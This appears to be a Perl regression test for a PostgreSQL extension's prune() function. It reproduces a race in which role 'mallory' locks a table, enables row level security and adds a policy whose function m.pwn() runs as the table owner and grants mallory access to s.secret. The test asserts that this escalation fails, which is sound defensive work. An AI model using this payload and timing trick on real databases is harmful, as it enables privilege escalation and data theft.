# What: 673's judging of a table with row level security that a write
# reads (through a function's BEGIN ATOMIC body) is undone by its owner,
# who turns row level security on after prune() judged it and before the
# DELETE reads it: the table is not locked, and its owner holds her own
# lock as long as she likes.  Role app owns s.jobs and runs prune() in
# its own session; app's s.results references s.jobs ON DELETE SET NULL
# and has CHECK (s.ok(job_id)), s.ok() a BEGIN ATOMIC function of app
# that counts the rows of mallory's m.labels (app may SELECT it).  At
# the judging m.labels is a plain table (no view, no row level
# security: not judged, test/t/673).  mallory opens a transaction and
# takes ACCESS EXCLUSIVE on m.labels; prune()'s cascade UPDATE of
# s.results runs the CHECK, whose query waits for her lock.  She enables
# row level security with a policy calling m.pwn() and commits: the
# query is rewritten with her policy and m.pwn() runs as app (the
# action's query runs as s.results' owner, app), granting mallory app's
# s.secret.
# Why: sql/src/28_owner_session.sql owner_code() (673) judges a table
# with row level security it reaches, but owner_cascades() locks only
# the tables the DELETE writes, and prune() none it reads: ALTER TABLE
# ... ENABLE ROW LEVEL SECURITY and CREATE POLICY on a table read lock
# only that table, which its owner holds herself; the checks are not
# repeated under any lock on it.
# Expected: nothing of mallory's runs as app: m.log holds no row with
# cur = app, mallory gets no grant on s.secret (e.g. prune() locks the
# tables its closure reaches, in SHARE mode or as it may, before judging
# them, or refuses a write whose code reads another role's table).
# Severity: medium -- a role whose table the owner's own code reads
# (a function with a BEGIN ATOMIC body in a CHECK, a default or an index
# of a table the DELETE writes) runs code as the job table's owner at its
# prune(), reliably; a superuser caller bypasses row level security (not
# affected by this path).
# Control: W2Q_ATTACK_CONTROL=1 has mallory enable row level security
# and add the policy before prune() starts: prune() skips s.jobs with
# 673's WARNING (naming the policy's m.pwn() reached from the CHECK),
# and mallory gets nothing.
use strict;
use warnings;
use PostgreSQL::Test::Utils;
use Test::More;
use W2QTest;

my $control = $ENV{W2Q_ATTACK_CONTROL};
my $node = new_node('prune_rls_added695');
owner_code_fixture($node, extension => 1);
$node->safe_psql('postgres', q{
	CREATE ROLE app LOGIN;
	CREATE SCHEMA s AUTHORIZATION app;
	GRANT USAGE ON SCHEMA wal2queue TO app;
	GRANT USAGE ON SCHEMA m TO app;});
my ($out, $err) = as_mallory($node, q{
	CREATE TABLE m.log (cur name, ses name);
	GRANT INSERT ON m.log TO PUBLIC;
	CREATE FUNCTION m.pwn() RETURNS boolean LANGUAGE plpgsql AS $f$
	BEGIN
		INSERT INTO m.log VALUES (current_user, session_user);
		IF current_user = 'app' THEN
			EXECUTE 'GRANT ALL ON s.secret TO mallory';
		END IF;
		RETURN true;
	END $f$;
	GRANT EXECUTE ON FUNCTION m.pwn() TO PUBLIC;
	CREATE TABLE m.labels (v text);
	INSERT INTO m.labels VALUES ('a');
	GRANT SELECT ON m.labels TO app;});
is($err, '', "mallory's plain m.labels, readable by app");
$node->safe_psql('postgres', q{
	SET ROLE app;
	CREATE TABLE s.jobs (id bigint PRIMARY KEY, queue text NOT NULL);
	CREATE TABLE s.secret (v text);
	INSERT INTO s.secret VALUES ('app only');
	CREATE FUNCTION s.ok(j bigint) RETURNS boolean LANGUAGE sql STABLE
	BEGIN ATOMIC
		SELECT count(*) >= 0 FROM m.labels;
	END;
	CREATE TABLE s.results (job_id bigint REFERENCES s.jobs ON DELETE SET NULL, CHECK (s.ok(job_id)));
	INSERT INTO s.jobs VALUES (1, 'q'), (2, 'q');
	INSERT INTO s.results VALUES (1);
	RESET ROLE;
	SELECT wal2queue.append_only('s.jobs');
	SELECT wal2queue.create_slot('s695', 's.jobs');});

my $rls = q{ALTER TABLE m.labels ENABLE ROW LEVEL SECURITY;
	CREATE POLICY p ON m.labels USING (m.pwn())};
my $mal = $node->background_psql('postgres', on_error_stop => 1, extra_params => [ '-U', 'mallory' ]);
if ($control)
{
	$mal->query_safe($rls);
}
else
{
	$mal->query_safe(q{BEGIN});
	$mal->query_safe(q{LOCK TABLE m.labels IN ACCESS EXCLUSIVE MODE});
}
my $app = $node->background_psql('postgres', on_error_stop => 0, extra_params => [ '-U', 'app' ]);
$app->query_until(qr/pruning/, "\\echo pruning\nSELECT wal2queue.prune('s.jobs', force => true) AS pruned;\n\\echo pruned\n");
unless ($control)
{
	ok(wait_until(sub {
		$node->safe_psql('postgres', q{SELECT count(*) FROM pg_locks l JOIN pg_stat_activity a ON a.pid = l.pid
			WHERE NOT l.granted AND l.relation = 'm.labels'::regclass AND a.usename = 'app'}) ne '0' }),
		"app's prune() passed its checks and the CHECK's query waits for mallory's lock on m.labels");
	$mal->query_safe($rls);
	$mal->query_safe(q{COMMIT});
}
my $pout = $app->query_until(qr/pruned/, '');
my $perr = $app->{stderr} // '';
$app->quit;
$mal->quit;
note("prune: $pout $perr");
note('m.log: ' . $node->safe_psql('postgres', q{SELECT coalesce(string_agg(cur || '/' || ses, ', '), '(empty)') FROM m.log}));
is($node->safe_psql('postgres', q{SELECT count(*) FROM m.log WHERE cur <> 'mallory'}), '0',
	"none of mallory's code ran as another role");
is($node->safe_psql('postgres', q{SELECT has_table_privilege('mallory', 's.secret', 'SELECT')}), 'f',
	"mallory got no grant on app's s.secret");
like($perr, qr/WARNING:  wal2queue\.prune: table s\.jobs is skipped: constraint results_job_id_check of table s\.results .* uses function m\.pwn\(\) of role mallory/,
	"prune() skips s.jobs naming the policy's m.pwn()") if $control;

$node->stop;
done_testing();
